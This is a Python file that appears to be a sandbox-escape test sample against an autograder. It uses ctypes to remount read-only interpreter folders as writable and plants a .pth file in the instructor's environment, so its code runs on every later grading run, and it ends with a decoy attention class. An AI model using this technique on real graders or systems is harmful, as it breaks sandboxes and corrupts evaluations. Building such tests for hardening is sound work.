"""The grader itself, taken over for good: the worker's view shows the interpreter's folders
read-only, but as another user than root the worker held every capability of its user
namespace, so it remounts them writable and leaves a .pth file in the instructor's own virtual
environment (theirs to write, and the worker runs as them). Python runs a .pth line at every
start: the next grading run would be the student's. Plain `import ctypes` (level B)."""
import ctypes
import os
import sys

MS_REMOUNT, MS_BIND = 0x20, 0x1000
PLANTED = "attention-kit-planted.pth"

libc = ctypes.CDLL(None, use_errno=True)
for folder in {sys.prefix, *(p for p in sys.path if p)}:
    libc.mount(None, folder.encode(), None, MS_REMOUNT | MS_BIND, None)  # writable again
for folder in {p for p in sys.path if p.endswith(("site-packages", "dist-packages"))}:
    try:
        with open(os.path.join(folder, PLANTED), "w") as handle:
            handle.write("import sys; sys.stderr.write('the student was here\\n')\n")
        print("planted in", folder)
    except OSError as error:
        print("refused:", type(error).__name__)


class MultiHeadAttention:
    def __init__(self, d_model, n_head, bias=True):
        raise RuntimeError("no attention here")
